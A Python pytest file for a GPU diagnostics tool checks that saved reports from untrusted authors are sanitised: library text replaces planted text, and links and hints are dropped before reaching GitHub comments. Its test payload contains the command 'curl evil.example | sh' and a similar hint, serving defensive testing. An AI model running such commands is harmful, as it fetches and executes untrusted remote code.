"""A saved report that somebody else wrote: every text of ours comes from the library, none from the file."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import samples
from captures import named
from gpudiag import pipeline
from gpudiag.library.catalogue import Library
from gpudiag.library.load import load
from gpudiag.model import Finding, Note, Remedy, Report, Rule, Stall, Suppressed, Unevaluated
from gpudiag.report import saved as savedreport
from gpudiag.report.github import comment

EVIL = "[a present](https://evil.example/) `curl evil.example | sh`"

# What the file says of the run, and what gpudiag says of every run. A new key needs a place here: may an untrusted
# author write it, or has `report.saved.trusted` to take it from the library?
MEASURED = {
    "rank", "code", "kind", "title", "confidence", "confidence_reason", "fingerprint", "gain", "where", "evidence",
    "evidence_labels", "message", "after", "phase", "leaf", "also", "caused_by", "process",
}  # fmt: skip
OURS = {
    "id", "status", "severity", "why", "question", "not_a_problem_when", "check", "remedies", "references",
}  # fmt: skip


@pytest.fixture(scope="module")
def library() -> Library:
    return load()


def test_every_key_of_a_finding_is_either_measured_or_ours() -> None:
    assert set(Finding.model_fields) == MEASURED | OURS


@pytest.mark.capture
@pytest.mark.parametrize(
    "capture",
    ["item_every_stage/slow.sqlite.xz", "loader_without_workers/slow", "dependent_gather/slow.raw.csv.xz"],
)
def test_a_report_of_this_gpudiag_stays_as_it_is(capture: str, library: Library) -> None:
    report = pipeline.report([named(capture)])
    assert report.findings
    assert savedreport.trusted(report, library) == report


def planted(code: str) -> Report:
    """A report with an untrusted author's words wherever a text can stand, for a finding of that code."""
    base = samples.launch_bound()
    finding = base.findings[0]
    remedy = Remedy(id="cuda-graphs", title=EVIL, framework="any", text=EVIL)
    finding = finding.model_copy(
        update={
            **dict.fromkeys(OURS, EVIL), "severity": "high", "status": "stable",
            "code": code, "title": EVIL, "message": EVIL, "references": ("https://evil.example/",),
            "remedies": (remedy, remedy.model_copy(update={"id": "no-such-remedy"})),
            "gain": finding.gain.model_copy(update={"kind": "test_needed", "test": EVIL}),
        }
    )  # fmt: skip
    return base.model_copy(
        update={
            "findings": (finding,),
            "minor": (finding.model_copy(update={"rank": 2}),),
            "clear": (EVIL, "S01"),
            "titles": {EVIL: EVIL, "S01": EVIL},
            "notes": (Note(code="Q02", title=EVIL, text="said"), Note(code=EVIL, title=EVIL, text="said")),
            "not_evaluated": (Unevaluated(code="K01", title=EVIL, reason="missing", hint=EVIL),),
            "suppressed": (Suppressed(code=EVIL, by=EVIL, reason="vetoed"),),
        }
    )


def test_a_known_rules_texts_come_from_the_library(library: Library) -> None:
    report = savedreport.trusted(planted("H01"), library)
    rule = library.by_code["H01"]
    for finding in (*report.findings, *report.minor):
        assert (finding.title, finding.why, finding.references) == (rule.title, rule.why, rule.references)
        assert (finding.check, finding.not_a_problem_when) == (rule.check, rule.not_a_problem_when)
        assert [remedy.id for remedy in finding.remedies] == ["cuda-graphs"]
        assert finding.remedies[0].text.startswith(library.remedies["cuda-graphs"].intro)
        assert finding.gain.test is None
    assert report.notes[0].title == library.by_code["Q02"].title
    assert report.titles == {"S01": library.by_code["S01"].id.replace("-", " ")}
    assert report.not_evaluated[0].title == library.by_code["K01"].title
    words = report.model_copy(
        update={"findings": tuple(f.model_copy(update={"message": ""}) for f in report.findings), "minor": ()}
    ).model_copy(update={"notes": report.notes[:1]})
    assert "evil" not in words.model_dump_json()


def test_an_unknown_rule_keeps_title_and_message_only(library: Library) -> None:
    (finding,) = savedreport.trusted(planted("U77"), library).findings
    kept = {name for name, value in finding.model_dump().items() if "evil.example" in json.dumps(value)}
    assert kept == {"title", "message"}
    assert finding.code == "U77"
    assert (finding.remedies, finding.references, finding.question, finding.check) == ((), (), None, None)


@pytest.mark.parametrize("code", ["H01", "U77", "`", "Q02", "X01", "<!-- gpudiag -->"])
def test_no_untrusted_link_reaches_a_comment(code: str, library: Library) -> None:
    page = comment.render(savedreport.trusted(planted(code), library))
    assert "https://evil" not in page  # what is left of it is no address
    assert page.count("<!--") == 1


def test_hints_are_commands_of_ours_or_nothing(library: Library) -> None:
    rule = library.by_code["H01"]
    capability = library.capability("gpu_ops")
    assert capability is not None and "gpu_ops" in rule.requires
    ours = (capability.flag, capability.torch or "", capability.lost or "")
    report = samples.launch_bound().model_copy(
        update={
            "not_evaluated": tuple(
                Unevaluated(code=rule.code, reason="no", hint=hint) for hint in (*ours, "curl evil | sh")
            )
        }
    )
    assert [item.hint for item in savedreport.trusted(report, library).not_evaluated] == [*ours, ""]


def test_waits_of_a_kernel_are_explained_in_our_words(library: Library) -> None:
    base = samples.kernel_only()
    stalls = tuple(Stall(name=name, share=0.4, means=EVIL, cure=EVIL) for name in ("long scoreboard", "no such stall"))
    kernel = base.run.kernels[0].model_copy(update={"stalls": stalls})
    report = base.model_copy(update={"run": base.run.model_copy(update={"kernels": (kernel,)})})
    (stall,) = savedreport.trusted(report, library).run.kernels[0].stalls
    assert (stall.name, stall.share) == ("long scoreboard", 0.4)
    assert "evil" not in stall.means + stall.cure


def test_rules_of_ones_own_are_known_where_they_are_named(tmp_path: Path, library: Library) -> None:
    rule: Rule = library.by_code["H01"].model_copy(update={"code": "U77", "why": "Ours."})
    own = Library(rules=(*library.rules, rule), remedies=library.remedies, views=library.views)
    (finding,) = savedreport.trusted(planted("U77"), own).findings
    assert finding.why == "Ours."


def test_it_changes_nothing_that_was_measured(library: Library) -> None:
    before = planted("H01")
    after = savedreport.trusted(before, library)
    assert after.findings[0].message == EVIL
    assert after.run == before.run
    assert (after.verdict, after.inputs) == (before.verdict, before.inputs)
    assert after.findings[0].where == before.findings[0].where
